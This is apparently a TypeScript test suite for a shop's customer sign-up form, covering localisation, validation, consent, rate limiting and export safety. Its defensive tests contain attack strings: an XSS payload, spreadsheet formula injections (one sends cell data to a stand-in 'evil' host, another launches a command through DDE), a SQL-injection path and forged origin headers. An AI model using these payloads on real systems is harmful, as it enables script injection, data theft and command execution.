import { sql } from 'kysely';
import { describe, expect, it } from 'vitest';
import { evaluateAll } from '../../src/features/evaluations/evaluate-all.ts';
import { fillIn, formShop, signUp } from '../support/form-shop.ts';
import { readCsvRows } from '../support/read-csv-strictly.ts';
import { caller } from '../support/serve-shop.ts';

interface Customers {
  readonly customers: readonly {
    readonly id: string;
    readonly externalId: string;
    readonly name: string | null;
  }[];
}

describe('R005 the page of a form', () => {
  it('shows what is asked in the reader’s language, without cookies or scripts, and thanks whoever fills it in', async () => {
    const shop = await formShop({ store: '南山店', reward: 50 });
    const { served, by, path } = shop;
    const { folder, clock } = served.shop;
    expect((await by.send('POST', '/schemes', { template: 'supermarket' })).statusCode).toBe(201);
    await evaluateAll(folder, { asOf: null, clock: () => clock.now });
    const zh = await served.app.inject({ url: path, headers: { 'accept-language': 'zh-CN,zh;q=0.9' } });
    expect(zh.statusCode).toBe(200);
    expect(zh.body).toContain('<html lang="zh-CN">');
    expect(zh.body).toContain('会员登记');
    expect(zh.body).toContain('本店收集姓名和手机号');
    expect(zh.body).toContain(`href="${path}?lang=en"`);
    expect(zh.body).not.toContain('<script');
    expect(zh.headers['set-cookie']).toBeUndefined();
    expect(zh.headers['content-security-policy']).toMatch(/^default-src 'none';style-src 'sha256-/);
    expect(zh.headers['cache-control']).toBe('no-store');
    expect((await served.app.inject({ url: `${path}?lang=en` })).body).toContain('Join us');

    const sent = await fillIn(shop, {
      name: ' 王芳 ',
      phone: '１３８ 0013 8000',
      birthday: '1990年5月1日',
      gender: '女',
      region: '',
    });
    expect([sent.statusCode, sent.headers.location], sent.body).toEqual([303, `${path}/done?lang=en`]);
    expect((await served.app.inject({ url: String(sent.headers.location) })).body).toContain('Thank you');
    const { customers } = (await by.get('/customers')).json<Customers>();
    expect(customers).toMatchObject([{ externalId: 'form-1-1', name: '王芳' }]);
    const id = customers[0]?.id;
    expect((await by.get(`/customers/${id}`)).json()).toMatchObject({
      ...{
        phone: '138****8000',
        birthday: '1990-05-01',
        gender: '女',
        store: '南山店',
        registeredAt: '2026-01-15',
      },
    });
    expect((await by.get(`/customers/${id}`)).json()).toMatchObject({ tier: 'normal' });
    expect((await by.get(`/customers/${id}/history`)).json()).toMatchObject({
      versions: [{ author: 'form:会员登记' }],
    });
    expect((await by.get(`/customers/${id}/points`)).json()).toMatchObject({ balance: '50' });
    const audit = (await by.get('/audit')).json<{ entries: readonly { action: string; actor: string }[] }>();
    expect(
      audit.entries.filter(({ actor }) => actor === 'form:会员登记').map(({ action }) => action),
    ).toEqual(['points-entered', 'customers-changed']);
  });

  it('says all that is wrong beside its fields, keeps what was typed, and shows hostile text as text (XSS-01, XSS-13)', async () => {
    const shop = await formShop();
    const hostile = `"><img src=x onerror=window.__xss=1></script><script>1`;
    const sent = await fillIn(
      shop,
      { name: hostile, phone: '138****8000', birthday: '1990-02-30', gender: '<b>' },
      { agree: [1] },
    );
    expect(sent.statusCode).toBe(422);
    expect(sent.body).not.toMatch(/<img|<script|<b>/);
    expect(sent.body).toContain('value="&quot;&gt;&lt;img src=x onerror=window.__xss=1&gt;');
    expect(sent.body).toContain('value="138****8000"');
    expect([...sent.body.matchAll(/aria-invalid="true"/g)]).toHaveLength(4);
    expect(sent.body).toContain('this is masked');
    expect(sent.body).toContain('to send the form, agree to this');
    expect(sent.body).toMatch(/value="1" checked/);
    const empty = await fillIn(shop, {}, { agree: [] });
    expect([...empty.body.matchAll(/this has to be filled in/g)]).toHaveLength(4);
    // A star is no mask, a choice is one, and of what the notice lacks nothing is agreed to.
    const odd = await fillIn(shop, { name: '王芳', phone: '1*3800138000' }, { agree: [0, 99_999_999_999] });
    expect(odd.statusCode).toBe(422);
    expect(odd.body).toContain('write the whole phone number');
    expect(odd.body).toContain('the notice has no such purpose');
    expect((await shop.by.get('/customers')).json<Customers>().customers).toEqual([]);
    expect((await shop.by.get('/proposals')).json()).toEqual({ proposals: [], next: null });
    expect(shop.served.faults).toEqual([]);
  });

  it('keeps what a spreadsheet would run harmless in exports (FORM-01, FORM-03, FORM-05, FORM-09)', async () => {
    const shop = await formShop();
    const names = ['=HYPERLINK("http://evil/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", '@SUM(1+9)', '＝1+1'];
    for (const [n, name] of names.entries()) await fillIn(shop, { name, phone: `1380013800${n}` });
    const asked = await shop.by.send('POST', '/exports', { what: 'customers' });
    const { job } = asked.json<{ job: string }>();
    await shop.by.get(`/jobs/${job}/events`);
    const rows = readCsvRows((await shop.by.get(`/exports/${job}/file`)).body);
    expect(rows.map(({ name }) => name)).toEqual(names.map((name) => `'${name}`));
  });

  it('answers the same, whether somebody is known or not', async () => {
    const shop = await formShop();
    await shop.by.send('POST', '/customers', {
      customers: [{ externalId: 'ada', name: '王芳', phone: '13800138000' }],
    });
    const [known, stranger] = [
      await fillIn(shop, { name: '王小芳', phone: '+86 138-0013-8000' }),
      await fillIn(shop, { name: '李雷', phone: '13900139000' }),
    ];
    const told = ({ statusCode, headers, body }: typeof known) => ({
      statusCode,
      body,
      headers: { ...headers, date: null },
    });
    expect(told(known)).toEqual(told(stranger));
    const { customers } = (await shop.by.get('/customers')).json<Customers>();
    expect(customers.map(({ name }) => name)).toEqual(['王芳', '李雷']);
    expect((await shop.by.get('/proposals/count')).json()).toEqual({ open: 1 });
  });

  it('takes a page that is sent twice once, and nothing from what fills in every field', async () => {
    const shop = await formShop();
    const answers = { name: '王芳', phone: '13800138000' };
    for (let n = 0; n < 3; n++) expect((await fillIn(shop, answers, { once: 'same' })).statusCode).toBe(303);
    const trapped = await fillIn(
      shop,
      { name: 'bot', phone: '13900139000' },
      { more: { website: 'http://evil' } },
    );
    expect(trapped.statusCode).toBe(303);
    expect((await shop.by.get('/customers')).json<Customers>().customers).toHaveLength(1);
    expect((await shop.by.get('/proposals/count')).json()).toEqual({ open: 0 });
    // What is agreed to otherwise is something else.
    const purposes = async (): Promise<unknown> =>
      (
        await sql`select submission_id, purpose from form_consents order by 1, 2`.execute(
          shop.served.shop.folder.database().reader,
        )
      ).rows;
    const before = await purposes();
    expect((await fillIn(shop, answers, { once: 'same', agree: [0, 1] })).statusCode).toBe(303);
    expect(await purposes()).not.toEqual(before);
  });

  it('is limited by address and by form, and says how long to wait without losing what was typed', async () => {
    const shop = await formShop();
    const phone = (n: number): string => `138000${10_000 + n}`;
    const send = async (n: number, address: string) =>
      await fillIn(shop, { name: 'a', phone: phone(n) }, { address });
    for (let n = 0; n < 30; n++) expect((await send(n, '192.0.2.7')).statusCode).toBe(303);
    const more = await send(30, '192.0.2.7');
    expect([more.statusCode, more.headers['retry-after']]).toEqual([429, '900']);
    expect(more.body).toContain('try again in 15 minutes');
    expect(more.body).toContain(`value="${phone(30)}"`);
    expect((await send(30, '192.0.2.8')).statusCode).toBe(303);
    shop.served.shop.clock.now += 15 * 60_000 + 1;
    expect((await send(31, '192.0.2.7')).statusCode).toBe(303);
  });

  it('is gone when the form is closed, ended or was never there', async () => {
    const shop = await formShop({ endsOn: '2026-01-15' });
    const { served, by, form, path } = shop;
    const status = async (url: string): Promise<number> => (await served.app.inject({ url })).statusCode;
    expect(await status(path)).toBe(200);
    served.shop.clock.now += 86_400_000;
    expect(await status(path)).toBe(404);
    expect((await fillIn(shop, { name: 'a', phone: '13800138000' })).statusCode).toBe(404);
    expect((await by.send('PUT', `/forms/${form}`, { ...signUp, endsOn: null })).statusCode).toBe(204);
    expect(await status(path)).toBe(200);
    expect((await by.send('PUT', `/forms/${form}`, { ...signUp, open: false })).statusCode).toBe(204);
    expect(await status(path)).toBe(404);
    expect(await status('/f/aaaaaaaaaaaaaaaaaaaa')).toBe(404);
    expect(await status(`/f/${encodeURIComponent("' or 1=1 --")}`)).toBe(404);
  });

  it('refuses pages of others, large bodies and other kinds of them, as pages; the API takes no forms (AUTH-09)', async () => {
    const shop = await formShop();
    const answers = { name: 'a', phone: '13800138000' };
    const host = 'localhost:7070';
    const foreign = await fillIn(shop, answers, { headers: { host, origin: 'http://evil.example' } });
    expect([foreign.statusCode, foreign.headers['content-type']]).toEqual([403, 'text/html; charset=utf-8']);
    const own = await fillIn(shop, answers, { headers: { host, origin: `http://${host}` } });
    expect(own.statusCode).toBe(303);
    const rebound = await shop.served.app.inject({ url: shop.path, headers: { host: 'evil.example' } });
    expect(rebound.statusCode).toBe(421);
    expect((await fillIn(shop, { name: 'x'.repeat(70_000) })).statusCode).toBe(413);
    expect(
      (await fillIn(shop, answers, { headers: { 'content-type': 'application/json' } })).statusCode,
    ).toBe(415);
    const asForm = await caller(shop.served.app, {
      authorization: `Bearer ${shop.served.served.localToken}`,
    }).send('POST', '/forms', 'title=x', { 'content-type': 'application/x-www-form-urlencoded' });
    expect(asForm.statusCode).toBe(415);
    expect(shop.served.faults).toEqual([]);
  });

  it('asks to agree anew when the notice has changed meanwhile, and keeps every version', async () => {
    const shop = await formShop();
    const { by, form } = shop;
    const notice = { zh: '本店另外收集生日。', en: '' };
    expect(
      (await by.send('PUT', `/forms/${form}`, { ...signUp, title: { zh: '登记', en: '' } })).statusCode,
    ).toBe(204);
    expect((await by.get(`/forms/${form}`)).json()).toMatchObject({
      noticeVersion: 1,
      title: { en: '登记' },
    });
    expect((await by.send('PUT', `/forms/${form}`, { ...signUp, notice })).statusCode).toBe(204);
    const { notices } = (await by.get(`/forms/${form}`)).json<{
      notices: readonly { version: number; notice: { zh: string } }[];
    }>();
    expect(notices.map(({ version, notice: { zh } }) => [version, zh])).toEqual([
      [2, '本店另外收集生日。'],
      [1, '本店收集姓名和手机号，用于会员服务。'],
    ]);
    const late = await fillIn(shop, { name: '王芳', phone: '13800138000' }, { notice: 1 });
    expect([
      late.statusCode,
      late.body.includes('本店另外收集生日。'),
      /value="0" checked/.test(late.body),
    ]).toEqual([422, true, false]);
    expect((await fillIn(shop, { name: '王芳', phone: '13800138000' }, { notice: 2 })).statusCode).toBe(303);
  });
});

describe('a form', () => {
  it('needs its texts in one language alone', async () => {
    const name = { zh: '会员服务' };
    const { by, form } = await formShop({ notice: name, purposes: [{ name, required: true }] });
    const both = { zh: '会员服务', en: '会员服务' };
    expect((await by.get(`/forms/${form}`)).json()).toMatchObject({
      notices: [{ notice: both, purposes: [{ name: both }] }],
    });
  });

  it('says everything that is wrong with it, and is for owners and managers to make', async () => {
    const { served, by } = await formShop();
    const wrong = await by.send('POST', '/forms', {
      ...{
        kind: 'sign-up',
        title: { zh: ' ', en: '' },
        notice: { en: '' },
        purposes: [],
        reward: -3,
        endsOn: '2026-02-30',
      },
      fields: [
        { field: 'name', required: true },
        { field: 'name', required: true },
        { field: 'owner', required: true },
      ],
    });
    expect(wrong.statusCode).toBe(422);
    const { problems } = wrong.json<{ problems: readonly { path: string; code: string }[] }>();
    expect(problems.map(({ path, code }) => `${path} ${code}`)).toEqual([
      'title missing',
      'notice missing',
      'purposes missing',
      'fields[1] field-twice',
      'fields[2] unknown-field',
      'fields nobody-known',
      'reward bad-reward',
      'endsOn bad-day',
    ]);
    expect(served.faults).toEqual([]);
  });
});
